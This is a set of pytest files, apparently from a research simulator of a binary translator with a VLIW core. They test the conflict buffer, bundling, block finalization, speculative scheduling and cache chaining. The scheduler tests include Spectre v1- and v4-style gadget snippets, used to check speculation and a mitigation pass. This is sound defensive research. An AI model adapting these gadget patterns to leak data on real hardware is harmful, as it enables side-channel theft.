                 Bundle(ops=(jump(),))),
        guest_length=1, recovery=recovery,
    )
    core.execute_block(block)
    assert any(event.kind == "rollback" for event in core.tracer.events)
