"""Memory Conflict Buffer tests."""

import pytest

from repro.vliw.mcb import MemoryConflictBuffer


def test_no_conflict_on_disjoint_addresses():
    mcb = MemoryConflictBuffer()
    mcb.record_load(0x100, 8, dest=5, op_index=0)
    assert mcb.check_store(0x108, 8) is None
    assert mcb.check_store(0xF8, 8) is None


def test_conflict_on_exact_overlap():
    mcb = MemoryConflictBuffer()
    mcb.record_load(0x100, 8, dest=5, op_index=3)
    conflict = mcb.check_store(0x100, 8)
    assert conflict is not None
    assert conflict.entry.dest == 5
    assert mcb.conflicts == 1


def test_conflict_on_partial_overlap():
    mcb = MemoryConflictBuffer()
    mcb.record_load(0x100, 8, dest=5, op_index=0)
    assert mcb.check_store(0x104, 1) is not None
    assert mcb.check_store(0xFF, 2) is not None  # last byte overlaps 0x100
    assert mcb.check_store(0xFF, 1) is None


def test_byte_granularity():
    mcb = MemoryConflictBuffer()
    mcb.record_load(0x10, 1, dest=1, op_index=0)
    assert mcb.check_store(0x10, 1) is not None
    assert mcb.check_store(0x11, 1) is None


def test_capacity_overflow():
    mcb = MemoryConflictBuffer(capacity=2)
    assert mcb.record_load(0, 8, 1, 0)
    assert mcb.record_load(8, 8, 2, 1)
    assert not mcb.record_load(16, 8, 3, 2)
    assert mcb.overflows == 1
    assert len(mcb) == 2


def test_release_by_tag():
    mcb = MemoryConflictBuffer()
    mcb.record_load(0x100, 8, dest=5, op_index=0, tag=7)
    mcb.record_load(0x200, 8, dest=6, op_index=1, tag=8)
    assert mcb.release(7)
    assert not mcb.release(7)  # already gone; no-op
    assert mcb.check_store(0x100, 8) is None  # released entry gone
    assert mcb.check_store(0x200, 8) is not None  # other entry remains


def test_clear():
    mcb = MemoryConflictBuffer()
    mcb.record_load(0, 8, 1, 0)
    mcb.clear()
    assert len(mcb) == 0
    assert mcb.check_store(0, 8) is None


def test_capacity_validation():
    with pytest.raises(ValueError):
        MemoryConflictBuffer(capacity=0)
