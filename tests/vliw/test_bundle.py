"""Bundle legality / slot-matching tests."""

import pytest

from repro.vliw.bundle import BundleError, assign_slots, fits, make_bundle
from repro.vliw.config import UnitClass, VliwConfig, wide_config
from repro.vliw.isa import Condition, VliwOp, VliwOpcode


def alu(dest=1, src=2):
    return VliwOp(VliwOpcode.ALU, alu_op="add", dest=dest, src1=src, src2=src)


def mul(dest=3):
    return VliwOp(VliwOpcode.ALU, alu_op="mul", dest=dest, src1=1, src2=2)


def load(dest=4):
    return VliwOp(VliwOpcode.LOAD, dest=dest, src1=2)


def store():
    return VliwOp(VliwOpcode.STORE, src1=2, src2=3)


def branch():
    return VliwOp(VliwOpcode.BRANCH, condition=Condition.EQ, src1=1, src2=2, target=0x100)


def test_four_alus_fit_default_machine():
    assert fits([alu(i + 1) for i in range(4)], VliwConfig())


def test_five_ops_do_not_fit():
    assert not fits([alu(i + 1) for i in range(5)], VliwConfig())


def test_two_memory_ops_do_not_fit_default():
    assert not fits([load(4), store()], VliwConfig())


def test_two_memory_ops_fit_wide_machine():
    assert fits([load(4), store()], wide_config())


def test_branch_and_mem_and_mul_and_alu_fit():
    assert fits([branch(), load(4), mul(3), alu(1)], VliwConfig())


def test_two_branches_do_not_fit():
    assert not fits([branch(), branch()], VliwConfig())


def test_matching_backtracks():
    # ALU ops greedily placed in the mem-capable slot must give way to
    # the load (bipartite matching, not first-fit).
    ops = [alu(1), alu(2), alu(3), load(4)]
    placed = assign_slots(ops, VliwConfig())
    assert placed is not None
    slots_with_load = [i for i, op in enumerate(placed) if op is not None
                       and op.opcode is VliwOpcode.LOAD]
    assert slots_with_load == [1]  # the only MEM-capable slot


def test_make_bundle_raises_on_illegal():
    with pytest.raises(BundleError):
        make_bundle([branch(), branch()], VliwConfig())


def test_make_bundle_describe():
    bundle = make_bundle([alu(1)], VliwConfig())
    assert "add" in bundle.describe()
    empty = make_bundle([], VliwConfig())
    assert empty.describe() == "nop"


def test_slots_for_units():
    config = VliwConfig()
    assert config.slots_for(UnitClass.MEM) == (1,)
    assert config.slots_for(UnitClass.BRANCH) == (0,)
    assert len(config.slots_for(UnitClass.ALU)) == 4
