"""Unit tests for the block-finalization fast path.

Finalization happens once per (block, config) at translation-cache
install time; these tests pin down the lowering itself — ordinal
dispatch tables, memoization, recovery handling — plus the satellite
micro-optimisations (``__slots__`` dataclasses, trace saturation).
"""

import pytest

from repro.isa.assembler import assemble
from repro.mem.hierarchy import AccessResult
from repro.platform.system import DbtSystem
from repro.vliw.bundle import make_bundle
from repro.vliw.block import TranslatedBlock
from repro.vliw.config import VliwConfig, wide_config
from repro.vliw.fastpath import (
    ORD_ALU_RI,
    ORD_ALU_RR,
    ORD_BRANCH,
    ORD_JUMP,
    ORD_LOAD,
    ORD_STORE,
    FinalizedBlock,
    finalize_block,
)
from repro.vliw.isa import Condition, VliwOp, VliwOpcode
from repro.vliw.pipeline import ExecutionTrace, TraceEvent


def _block(ops_per_bundle, entry=0x100, recovery=None):
    config = VliwConfig()
    bundles = tuple(make_bundle(ops, config) for ops in ops_per_bundle)
    return TranslatedBlock(guest_entry=entry, bundles=bundles,
                           guest_length=len(ops_per_bundle),
                           recovery=recovery)


def test_finalize_is_memoized_per_config():
    config = VliwConfig()
    block = _block([[VliwOp(opcode=VliwOpcode.JUMP, target=0x104)]])
    first = finalize_block(block, config)
    assert isinstance(first, FinalizedBlock)
    assert finalize_block(block, config) is first
    # A different config object invalidates the memo.
    other = finalize_block(block, wide_config(8))
    assert other is not first


def test_alu_ops_split_by_operand_kind():
    block = _block([[
        VliwOp(opcode=VliwOpcode.ALU, alu_op="add", dest=5, src1=6, src2=7),
        VliwOp(opcode=VliwOpcode.ALU, alu_op="add", dest=8, src1=6, imm=3),
    ], [VliwOp(opcode=VliwOpcode.JUMP, target=0x108)]])
    finalized = finalize_block(block, VliwConfig())
    dops = finalized.bundles[0][0]
    assert dops[0][0] == ORD_ALU_RR
    assert dops[1][0] == ORD_ALU_RI
    jump = finalized.bundles[1][0][0]
    assert jump[0] == ORD_JUMP and jump[1] == 0x108


def test_reads_normalize_missing_sources_to_x0():
    block = _block([[
        VliwOp(opcode=VliwOpcode.STORE, src1=5, src2=None, imm=8),
        VliwOp(opcode=VliwOpcode.BRANCH, condition=Condition.EQ,
               src1=6, target=0x200),
    ]])
    finalized = finalize_block(block, VliwConfig())
    dops, reads, stall_sources = finalized.bundles[0][:3]
    assert dops[0][0] == ORD_STORE and dops[1][0] == ORD_BRANCH
    # Missing src2 reads register 0 (always zero), exactly like the
    # reference interpreter's ``else 0``.  The tuple is flat: (src1,
    # src2) per op, in bundle order.
    assert reads == (5, 0, 6, 0)
    assert set(stall_sources) == {5, 6}  # deduped, zero dropped


def test_speculative_load_metadata_survives_lowering():
    block = _block([[
        VliwOp(opcode=VliwOpcode.LOAD, dest=9, src1=5, imm=16, width=4,
               signed=False, speculative=True, spec_tag=3),
    ], [VliwOp(opcode=VliwOpcode.JUMP, target=0x108)]])
    finalized = finalize_block(block, VliwConfig())
    load = finalized.bundles[0][0][0]
    assert load[0] == ORD_LOAD
    assert load[1:6] == (9, 16, 4, False, True)
    assert load[6] == 3  # MCB tag


def test_recovery_block_finalized_eagerly():
    recovery = _block([[VliwOp(opcode=VliwOpcode.JUMP, target=0x104)]])
    block = _block([[VliwOp(opcode=VliwOpcode.JUMP, target=0x104)]],
                   recovery=recovery)
    finalized = finalize_block(block, VliwConfig())
    assert finalized.recovery is not None
    assert finalized.recovery.block is recovery


def test_engine_finalizes_at_install_time():
    program = assemble("""
_start:
    li a0, 7
    li a7, 93
    ecall
""")
    system = DbtSystem(program)
    result = system.run()
    assert result.exit_code == 7
    for block in system.engine.cache.blocks():
        assert getattr(block, "_finalized", None) is not None


def test_fast_path_defaults_on_and_reference_opt_out(monkeypatch):
    program = assemble("""
_start:
    li a0, 3
    li a7, 93
    ecall
""")
    assert DbtSystem(program).core.use_fast_path is True
    assert DbtSystem(program, interpreter="reference").core.use_fast_path \
        is False
    monkeypatch.setenv("REPRO_INTERP", "reference")
    assert DbtSystem(program).core.use_fast_path is False


# ---------------------------------------------------------------------------
# Satellite micro-optimisations.
# ---------------------------------------------------------------------------

def test_slots_dataclasses_have_no_dict():
    op = VliwOp(opcode=VliwOpcode.JUMP, target=4)
    event = TraceEvent(cycle=0, kind="issue", detail="", block_entry=0)
    access = AccessResult(value=0, hit=True, latency=1)
    for instance in (op, event, access):
        with pytest.raises(AttributeError):
            instance.__dict__


def test_trace_saturation_flag():
    trace = ExecutionTrace(limit=2)
    assert trace.saturated is False
    trace.record(0, "issue", "a", 0)
    assert trace.saturated is False
    trace.record(1, "issue", "b", 0)
    assert trace.saturated is True
    trace.record(2, "issue", "c", 0)  # dropped
    assert len(trace.events) == 2
    assert ExecutionTrace(limit=0).saturated is True


def test_saturated_trace_stops_recording_but_core_keeps_counting():
    program = assemble("""
_start:
    li t0, 0
    li t1, 20
head:
    addi t0, t0, 1
    blt t0, t1, head
    mv a0, t0
    li a7, 93
    ecall
""")
    system = DbtSystem(program)
    system.core.tracer = ExecutionTrace(limit=5)
    result = system.run()
    assert result.exit_code == 20
    assert system.core.tracer.saturated is True
    assert len(system.core.tracer.events) == 5
    assert result.core.bundles > 5  # execution continued past the limit
