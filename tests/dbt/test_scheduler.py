"""Speculative scheduler tests: legality, equivalence, speculation."""

import pytest

from repro.isa.assembler import assemble
from repro.dbt.blocks import discover_block
from repro.dbt.codegen import sequential_translate
from repro.dbt.ir import DepKind, IRBlock, IRInstruction, IRKind
from repro.dbt.irbuilder import build_ir
from repro.dbt.scheduler import SchedulerOptions, schedule_block
from repro.mem.hierarchy import DataMemorySystem
from repro.security.poison import analyze_block
from repro.security.mitigation import apply_ghostbusters
from repro.vliw.config import VliwConfig
from repro.vliw.isa import VliwOpcode
from repro.vliw.pipeline import VliwCore

CONFIG = VliwConfig()


def ir_from(source: str, path_symbols=None, final_next=None):
    program = assemble(source)
    if path_symbols:
        path = [discover_block(program, program.symbol(s)) for s in path_symbols]
    else:
        path = [discover_block(program, program.entry)]
    return build_ir(path, final_next=final_next)


def schedule(source: str, options=None, **kwargs):
    return schedule_block(ir_from(source, **kwargs), CONFIG,
                          options or SchedulerOptions())


# ---------------------------------------------------------------------------
# Structural legality.
# ---------------------------------------------------------------------------

def _bundle_of(block, predicate):
    for index, bundle in enumerate(block.bundles):
        for op in bundle:
            if predicate(op):
                return index
    return None


def test_all_ops_scheduled_exactly_once():
    block = schedule("""
    addi t0, t0, 1
    addi t1, t1, 2
    add t2, t0, t1
    ld t3, 0(t2)
    sd t3, 8(t2)
    ecall
""")
    # 6 guest instructions -> 6 ops (no exits before them -> no renames).
    assert block.num_ops == 6


def test_data_dependences_respected():
    block = schedule("""
    addi t0, zero, 1
    add t1, t0, t0
    add t2, t1, t1
    ecall
""")
    ops = []
    for index, bundle in enumerate(block.bundles):
        for op in bundle:
            ops.append((index, op))
    def bundle_writing(reg):
        return next(i for i, op in ops
                    if op.opcode is VliwOpcode.ALU and op.dest == reg)
    assert bundle_writing(5) < bundle_writing(6) < bundle_writing(7)


def test_parallel_ops_share_bundles():
    block = schedule("""
    addi t0, zero, 1
    addi t1, zero, 2
    addi t2, zero, 3
    ecall
""")
    # Three independent ALU ops fit one 4-wide bundle.
    assert block.num_bundles <= 2


def test_block_ends_with_exit():
    block = schedule("""
    addi t0, t0, 1
    ecall
""")
    assert block.terminates() or any(
        op.is_exit for op in block.bundles[-1]
    )


def test_store_never_crosses_exit():
    program = assemble("""
head:
    beq t0, t1, head
    sd t2, 0(t3)
    ecall
""")
    head = discover_block(program, program.symbol("head"))
    then = discover_block(program, head.fallthrough)
    block = schedule_block(build_ir([head, then]), CONFIG, SchedulerOptions())
    branch_bundle = _bundle_of(block, lambda op: op.opcode is VliwOpcode.BRANCH)
    store_bundle = _bundle_of(block, lambda op: op.opcode is VliwOpcode.STORE)
    assert store_bundle > branch_bundle


def test_nothing_sinks_below_exit():
    block = schedule("""
    addi t0, t0, 1
    addi t1, t1, 2
head:
    beq t0, t1, head
    ecall
""")
    branch_bundle = _bundle_of(block, lambda op: op.opcode is VliwOpcode.BRANCH)
    for index, bundle in enumerate(block.bundles):
        for op in bundle:
            if op.opcode is VliwOpcode.ALU:
                assert index <= branch_bundle


# ---------------------------------------------------------------------------
# Branch speculation (hidden registers).
# ---------------------------------------------------------------------------

V1_SHAPE = """
head:
    ld t0, 0(s3)
    ld t0, 0(t0)
    ld t0, 0(t0)
    bgeu a0, t0, out
    add t1, s0, a0
    lbu t2, 0(t1)
    slli t2, t2, 6
    add t3, s1, t2
    lbu t4, 0(t3)
out:
    ecall
"""


def _v1_ir():
    program = assemble(V1_SHAPE)
    head = discover_block(program, program.symbol("head"))
    then = discover_block(program, head.fallthrough)
    return build_ir([head, then])


def _v1_block(options=None):
    ir = _v1_ir()
    return ir, schedule_block(ir, CONFIG, options or SchedulerOptions())


def _byte_load_bundles(block):
    """Bundle indices of the guarded probe loads (width-1 loads)."""
    return [
        index
        for index, bundle in enumerate(block.bundles)
        for op in bundle
        if op.opcode is VliwOpcode.LOAD and op.width == 1
    ]


def test_loads_hoisted_above_branch_use_hidden_registers():
    _, block = _v1_block()
    branch_bundle = _bundle_of(block, lambda op: op.opcode is VliwOpcode.BRANCH)
    hoisted_loads = [
        op
        for index, bundle in enumerate(block.bundles) if index <= branch_bundle
        for op in bundle
        if op.opcode is VliwOpcode.LOAD and op.width == 1
    ]
    assert hoisted_loads, "speculation should hoist the dependent loads"
    for op in hoisted_loads:
        assert op.dest >= 32, "hoisted load must write a hidden register"
    assert block.branch_hoisted_ops > 0


def test_no_speculation_keeps_loads_behind_branch():
    _, block = _v1_block(SchedulerOptions(
        branch_speculation=False, memory_speculation=False,
    ))
    branch_bundle = _bundle_of(block, lambda op: op.opcode is VliwOpcode.BRANCH)
    for index in _byte_load_bundles(block):
        assert index > branch_bundle
    assert block.branch_hoisted_ops == 0
    assert block.recovery is None


def test_commit_movs_stay_behind_branch():
    _, block = _v1_block()
    branch_bundle = _bundle_of(block, lambda op: op.opcode is VliwOpcode.BRANCH)
    movs = [
        index
        for index, bundle in enumerate(block.bundles)
        for op in bundle if op.opcode is VliwOpcode.MOV and op.dest < 32
    ]
    for index in movs:
        assert index > branch_bundle


def test_mitigated_flagged_load_stays_behind_branch():
    ir = _v1_ir()
    report = analyze_block(ir)
    assert report.has_pattern
    apply_ghostbusters(ir, report)
    block = schedule_block(ir, CONFIG, SchedulerOptions())
    branch_bundle = _bundle_of(block, lambda op: op.opcode is VliwOpcode.BRANCH)
    # The *second* (flagged) load must remain behind the branch; the first
    # may still speculate.
    load_bundles = [
        index
        for index, bundle in enumerate(block.bundles)
        for op in bundle if op.opcode is VliwOpcode.LOAD
    ]
    assert max(load_bundles) > branch_bundle


# ---------------------------------------------------------------------------
# Memory speculation.
# ---------------------------------------------------------------------------

V4_SHAPE = """
    li t3, 1000000
    li t4, 997
    div t5, t3, t4
    div t5, t5, t4
    andi t5, t5, 7
    sd t5, 0(s2)
    ld a0, 0(s2)
    add t1, s0, a0
    lbu a1, 0(t1)
    slli a1, a1, 6
    add t3, s1, a1
    lbu a2, 0(t3)
    ecall
"""


def test_loads_hoisted_above_slow_store_become_speculative():
    block = schedule(V4_SHAPE)
    assert block.speculative_loads >= 1
    assert block.recovery is not None
    assert block.recovery.kind == "recovery"
    store_bundle = _bundle_of(block, lambda op: op.opcode is VliwOpcode.STORE)
    spec_bundles = [
        index
        for index, bundle in enumerate(block.bundles)
        for op in bundle if op.opcode is VliwOpcode.LOAD and op.speculative
    ]
    assert spec_bundles and all(b < store_bundle for b in spec_bundles)


def test_release_tags_attached_to_bypassed_store():
    block = schedule(V4_SHAPE)
    stores = [op for op in block.ops() if op.opcode is VliwOpcode.STORE]
    released = [tag for op in stores for tag in op.mcb_releases]
    spec_tags = [op.spec_tag for op in block.ops()
                 if op.opcode is VliwOpcode.LOAD and op.speculative]
    assert sorted(released) == sorted(spec_tags)


def test_memory_speculation_disabled():
    block = schedule(V4_SHAPE, SchedulerOptions(
        branch_speculation=True, memory_speculation=False,
    ))
    assert block.speculative_loads == 0
    assert block.recovery is None
    store_bundle = _bundle_of(block, lambda op: op.opcode is VliwOpcode.STORE)
    load_bundles = [
        index
        for index, bundle in enumerate(block.bundles)
        for op in bundle if op.opcode is VliwOpcode.LOAD
    ]
    assert all(b > store_bundle for b in load_bundles)


def test_spec_budget_respected():
    options = SchedulerOptions(max_speculative_loads=1)
    block = schedule(V4_SHAPE, options)
    assert block.speculative_loads <= 1


# ---------------------------------------------------------------------------
# Execution equivalence: optimized schedule == sequential translation.
# ---------------------------------------------------------------------------

EQUIVALENCE_SOURCES = [
    """
    addi t0, zero, 5
    addi t1, zero, 7
    mul t2, t0, t1
    sub t3, t2, t0
    ecall
""",
    V1_SHAPE,
    V4_SHAPE,
    """
    ld t0, 0(s2)
    sd t0, 8(s2)
    ld t1, 8(s2)
    add t2, t0, t1
    sd t2, 16(s2)
    ecall
""",
    """
head:
    addi t0, t0, 1
    ld t1, 0(s2)
    blt t0, t1, head
    sd t0, 8(s2)
    ecall
""",
]


def _run_block(translated, seed_regs, seed_memory):
    core = VliwCore(CONFIG, DataMemorySystem())
    for address, value in seed_memory.items():
        core.memory.poke(address, value, 8)
    for reg, value in seed_regs.items():
        core.regs.write(reg, value)
    result = core.execute_block(translated)
    return core, result


@pytest.mark.parametrize("source", EQUIVALENCE_SOURCES)
@pytest.mark.parametrize("options", [
    SchedulerOptions(),
    SchedulerOptions(branch_speculation=False, memory_speculation=True),
    SchedulerOptions(branch_speculation=True, memory_speculation=False),
    SchedulerOptions(branch_speculation=False, memory_speculation=False),
])
def test_scheduled_block_matches_sequential(source, options):
    program = assemble(source)
    if "head:" in source and "bgeu" in source:
        head = discover_block(program, program.symbol("head"))
        then = discover_block(program, head.fallthrough)
        ir = build_ir([head, then])
    else:
        ir = build_ir([discover_block(program, program.entry)])
    sequential = sequential_translate(ir, CONFIG)
    optimized = schedule_block(ir, CONFIG, options)

    seed_regs = {8: 0x2000, 9: 0x3000, 18: 0x4000, 19: 0x5000, 10: 2, 5: 16}
    seed_memory = {0x2000 + i * 8: (i * 37 + 5) & 0xFF for i in range(8)}
    seed_memory.update({0x4000 + i * 8: (i * 11 + 1) & 0xFF for i in range(8)})
    # Pointer chase for the V1 shape: s3 -> cell -> cell -> bound.
    seed_memory.update({0x5000: 0x5008, 0x5008: 0x5010, 0x5010: 16})

    core_a, result_a = _run_block(sequential, seed_regs, seed_memory)
    core_b, result_b = _run_block(optimized, seed_regs, seed_memory)

    assert result_a.next_pc == result_b.next_pc
    assert result_a.reason == result_b.reason
    assert core_a.regs.architectural() == core_b.regs.architectural()
    assert core_a.memory.memory.equal_contents(core_b.memory.memory)
