"""Block-chaining bookkeeping: links and dispatch records must die with
their translations.

This is where real DBT chaining bugs live — a stale link or record that
survives an install, invalidation, eviction or flush dispatches straight
into a dead translation.  The matrix below drives every cache mutation
path and asserts the :class:`~repro.dbt.chaining.ChainIndex` is torn
down, then end-to-end runs pin the invariant on live systems.
"""

import pytest

from repro.attacks import AttackVariant, build_attack_program
from repro.dbt.chaining import ChainIndex, ChainLink
from repro.dbt.engine import DbtEngineConfig
from repro.dbt.translation_cache import TranslationCache
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.platform.system import DbtSystem
from repro.security.policy import MitigationPolicy
from repro.vliw.block import TranslatedBlock
from repro.vliw.bundle import make_bundle
from repro.vliw.config import VliwConfig
from repro.vliw.isa import VliwOp, VliwOpcode


def _block(entry: int, kind: str = "firstpass") -> TranslatedBlock:
    config = VliwConfig()
    bundle = make_bundle(
        [VliwOp(opcode=VliwOpcode.JUMP, target=entry + 4)], config)
    return TranslatedBlock(guest_entry=entry, bundles=(bundle,),
                           guest_length=1, kind=kind)


def _record(block: TranslatedBlock) -> ChainLink:
    return ChainLink(block, None, None)


def _chained_cache(**kwargs) -> TranslationCache:
    cache = TranslationCache(**kwargs)
    cache.chains = ChainIndex()
    return cache


def _install_and_link(cache, *entries):
    """Install a straight-line chain A→B→C… and register its records."""
    blocks = [_block(entry) for entry in entries]
    for block in blocks:
        cache.install(block)
    records = {}
    for block in blocks:
        record = _record(block)
        cache.chains.records[block.guest_entry] = record
        records[block.guest_entry] = record
    for pred, succ in zip(blocks, blocks[1:]):
        cache.chains.link(pred.guest_entry, succ.guest_entry,
                          records[succ.guest_entry])
    return blocks, records


# ---------------------------------------------------------------------------
# ChainIndex in isolation.
# ---------------------------------------------------------------------------

def test_unlink_severs_links_in_both_directions():
    index = ChainIndex()
    a, b, c = (_record(_block(addr)) for addr in (0x100, 0x200, 0x300))
    index.records.update({0x100: a, 0x200: b, 0x300: c})
    index.link(0x100, 0x200, b)   # a → b
    index.link(0x200, 0x300, c)   # b → c
    index.link(0x300, 0x200, b)   # c → b (a loop back)
    assert index.link_count() == 3
    index.unlink(0x200)
    # Both the links *from* b and the links *to* b are gone; the a→?,
    # c→? maps hold nothing stale.
    assert not index.has_links(0x200)
    assert index.link_count() == 0
    assert 0x200 not in index.records
    # Unrelated records survive.
    assert index.records[0x100] is a and index.records[0x300] is c


def test_unlink_keeps_unrelated_links():
    index = ChainIndex()
    b, c = _record(_block(0x200)), _record(_block(0x300))
    index.link(0x100, 0x200, b)
    index.link(0x200, 0x300, c)
    index.unlink(0x300)
    assert index.successors(0x100) == {0x200: b}
    assert not index.successors(0x200)


def test_clear_empties_in_place():
    """The fused dispatcher holds direct references to the index's maps
    (``ChainContext``); ``clear`` must empty them in place, never rebind."""
    index = ChainIndex()
    out_ref, records_ref = index._out, index.records
    index.link(0x100, 0x200, _record(_block(0x200)))
    index.records[0x200] = _record(_block(0x200))
    index.clear()
    assert index._out is out_ref and index.records is records_ref
    assert not out_ref and not records_ref
    assert index.link_count() == 0


def test_unlink_unknown_entry_is_noop():
    index = ChainIndex()
    index.link(0x100, 0x200, _record(_block(0x200)))
    index.unlink(0xDEAD)
    assert index.link_count() == 1


# ---------------------------------------------------------------------------
# The invalidation matrix: every cache mutation unlinks.
# ---------------------------------------------------------------------------

def test_replacement_install_unlinks():
    cache = _chained_cache()
    _install_and_link(cache, 0x100, 0x200, 0x300)
    optimized = _block(0x200, kind="optimized")
    cache.install(optimized)
    assert cache.stats.replacements == 1
    # The old 0x200 translation is gone, so every link through it —
    # 0x100→0x200 and 0x200→0x300 — and its record must be gone too.
    assert not cache.chains.has_links(0x200)
    assert 0x200 not in cache.chains.records
    assert cache.chains.records[0x100] is not None  # neighbours survive


def test_invalidate_unlinks():
    cache = _chained_cache()
    _install_and_link(cache, 0x100, 0x200, 0x300)
    assert cache.invalidate(0x200)
    assert not cache.chains.has_links(0x200)
    assert 0x200 not in cache.chains.records
    assert cache.chains.has_links(0x100) is False  # its only link died
    assert 0x100 in cache.chains.records


def test_quarantine_path_unlinks():
    """Supervisor quarantines drop translations through
    ``cache.invalidate``; a missing entry must not leave links behind
    either way."""
    cache = _chained_cache()
    _install_and_link(cache, 0x100, 0x200)
    assert cache.invalidate(0x200)       # quarantined
    assert not cache.invalidate(0x200)   # double-quarantine: no-op
    assert cache.chains.link_count() == 0


def test_lru_eviction_unlinks_victim():
    cache = _chained_cache(capacity=3, capacity_policy="lru")
    _install_and_link(cache, 0x100, 0x200, 0x300)
    evicted = []
    cache.evict_listeners.append(evicted.append)
    cache.install(_block(0x400))  # over capacity: evicts LRU victim 0x100
    assert evicted == [0x100]
    assert cache.stats.evictions == 1
    assert 0x100 not in cache
    assert not cache.chains.has_links(0x100)
    assert 0x100 not in cache.chains.records
    # The rest of the chain (0x200→0x300) is untouched.
    assert cache.chains.successors(0x200)


def test_lru_lookup_refreshes_eviction_order():
    cache = _chained_cache(capacity=2, capacity_policy="lru")
    cache.install(_block(0x100))
    cache.install(_block(0x200))
    assert cache.lookup(0x100) is not None  # 0x100 becomes MRU
    cache.install(_block(0x300))            # victim must be 0x200
    assert 0x100 in cache and 0x300 in cache
    assert 0x200 not in cache
    assert cache.stats.evictions == 1
    assert cache.stats.capacity_flushes == 0


def test_capacity_flush_clears_every_link():
    cache = _chained_cache(capacity=3, capacity_policy="flush")
    _install_and_link(cache, 0x100, 0x200, 0x300)
    flushed = []
    cache.flush_listeners.append(lambda: flushed.append(True))
    cache.install(_block(0x400))
    assert flushed == [True]
    assert cache.stats.capacity_flushes == 1
    assert len(cache) == 1
    assert cache.chains.link_count() == 0
    assert cache.chains.records == {}


def test_clear_clears_links():
    cache = _chained_cache()
    _install_and_link(cache, 0x100, 0x200)
    cache.clear()
    assert cache.chains.link_count() == 0
    assert cache.chains.records == {}


def test_capacity_policy_validated():
    with pytest.raises(ValueError):
        TranslationCache(capacity=4, capacity_policy="random")


# ---------------------------------------------------------------------------
# Tier-3 eviction/invalidation parity: a translation leaving the cache
# takes its compiled host function — and its persisted envelope — with
# it, exactly as its chain links go.
# ---------------------------------------------------------------------------

def _compiled_cache(tmp_path, **kwargs) -> TranslationCache:
    from repro.dbt.translation_cache import PersistentCodegenCache

    cache = _chained_cache(**kwargs)
    cache.persistent = PersistentCodegenCache(tmp_path / "tcache")
    return cache


def _install_compiled(cache, entry, kind="reoptimized"):
    """Install a block and compile+persist it, as the system finalizer
    does for optimized translations."""
    from repro.vliw.codegen import ensure_compiled
    from repro.vliw.fastpath import finalize_block

    block = _block(entry, kind=kind)
    cache.install(block)
    fblock = finalize_block(block, VliwConfig())
    ensure_compiled(fblock, None, cache.persistent, "unsafe")
    assert fblock.compiled is not None
    assert fblock.persist_key is not None
    return block, fblock, fblock.persist_key


def _assert_compiled_forgotten(cache, block, key):
    fblock = block._finalized
    while fblock is not None:
        assert fblock.compiled is None
        assert fblock.persist_key is None
        fblock = fblock.recovery
    # The persisted envelope is gone too — another process can never
    # resurrect a translation this cache already rejected.
    assert cache.persistent.load(key) is None
    assert not cache.persistent._path(key).exists()


def test_replacement_install_forgets_compiled(tmp_path):
    cache = _compiled_cache(tmp_path)
    block, _, key = _install_compiled(cache, 0x100, kind="firstpass")
    cache.install(_block(0x100, kind="reoptimized"))
    assert cache.stats.replacements == 1
    _assert_compiled_forgotten(cache, block, key)


def test_invalidate_forgets_compiled(tmp_path):
    cache = _compiled_cache(tmp_path)
    block, _, key = _install_compiled(cache, 0x100)
    assert cache.invalidate(0x100)
    _assert_compiled_forgotten(cache, block, key)


def test_lru_eviction_forgets_compiled(tmp_path):
    cache = _compiled_cache(tmp_path, capacity=2, capacity_policy="lru")
    victim, _, victim_key = _install_compiled(cache, 0x100)
    survivor, _, survivor_key = _install_compiled(cache, 0x200)
    cache.install(_block(0x300))  # over capacity: evicts LRU victim 0x100
    assert cache.stats.evictions == 1
    _assert_compiled_forgotten(cache, victim, victim_key)
    # The survivor keeps its compiled form and its envelope.
    assert survivor._finalized.compiled is not None
    assert cache.persistent.load(survivor_key) is not None


def test_capacity_flush_forgets_compiled(tmp_path):
    cache = _compiled_cache(tmp_path, capacity=2, capacity_policy="flush")
    a, _, key_a = _install_compiled(cache, 0x100)
    b, _, key_b = _install_compiled(cache, 0x200)
    cache.install(_block(0x300))
    assert cache.stats.capacity_flushes == 1
    _assert_compiled_forgotten(cache, a, key_a)
    _assert_compiled_forgotten(cache, b, key_b)


def test_clear_forgets_compiled(tmp_path):
    cache = _compiled_cache(tmp_path)
    block, _, key = _install_compiled(cache, 0x100)
    cache.clear()
    _assert_compiled_forgotten(cache, block, key)


# ---------------------------------------------------------------------------
# Tier-4 megablock retirement parity: a cache mutation that drops any
# constituent translation retires every megablock containing it — and
# discards the trace's persisted envelope — through the same hooks that
# tear down chain links and compiled forms.
# ---------------------------------------------------------------------------

def _trace_system(tmp_path, **config_fields):
    """A finished trace-tier run, persisting envelopes under
    ``tmp_path``."""
    program = build_kernel_program(SMALL_SIZES["atax"]())
    system = DbtSystem(
        program, policy=MitigationPolicy.UNSAFE, interpreter="trace",
        engine_config=DbtEngineConfig(chain=True, **config_fields),
        tcache_dir=tmp_path / "tcache")
    system.run()
    return system


def _pick_megablock(system):
    assert system.traces.stats.dispatches > 0
    assert system.traces._megablocks
    head = sorted(system.traces._megablocks)[0]
    mega = system.traces._megablocks[head]
    assert mega.persist_key is not None
    assert system.tcache.load(mega.persist_key) is not None
    return mega


def _assert_megablock_retired(system, mega):
    traces = system.traces
    assert traces._megablocks.get(mega.head) is not mega
    for link in mega.steps:
        assert mega.head not in traces._covering.get(link.entry, ())
    # The persisted envelope died with it: no later process may load a
    # driver whose constituent translations this cache already dropped.
    assert system.tcache.load(mega.persist_key) is None
    assert not system.tcache._path(mega.persist_key).exists()
    assert traces.stats.retired > 0


def _assert_megablocks_scoped(system):
    """No surviving megablock may reference a dead or stale record."""
    installed = {block.guest_entry for block in system.engine.cache.blocks()}
    records = system.engine.chains.records
    for mega in system.traces._megablocks.values():
        for link in mega.steps:
            assert link.entry in installed
            assert records.get(link.entry) is link


def test_replacement_install_retires_megablocks(tmp_path):
    system = _trace_system(tmp_path)
    mega = _pick_megablock(system)
    victim = mega.steps[-1].entry
    system.engine.cache.install(_block(victim, kind="reoptimized"))
    _assert_megablock_retired(system, mega)
    _assert_megablocks_scoped(system)


def test_invalidate_retires_megablocks(tmp_path):
    system = _trace_system(tmp_path)
    mega = _pick_megablock(system)
    assert system.engine.cache.invalidate(mega.steps[0].entry)
    _assert_megablock_retired(system, mega)
    _assert_megablocks_scoped(system)


def test_cache_clear_retires_megablocks(tmp_path):
    system = _trace_system(tmp_path)
    mega = _pick_megablock(system)
    system.engine.cache.clear()
    _assert_megablock_retired(system, mega)
    assert system.traces._megablocks == {}
    assert system.traces._covering == {}

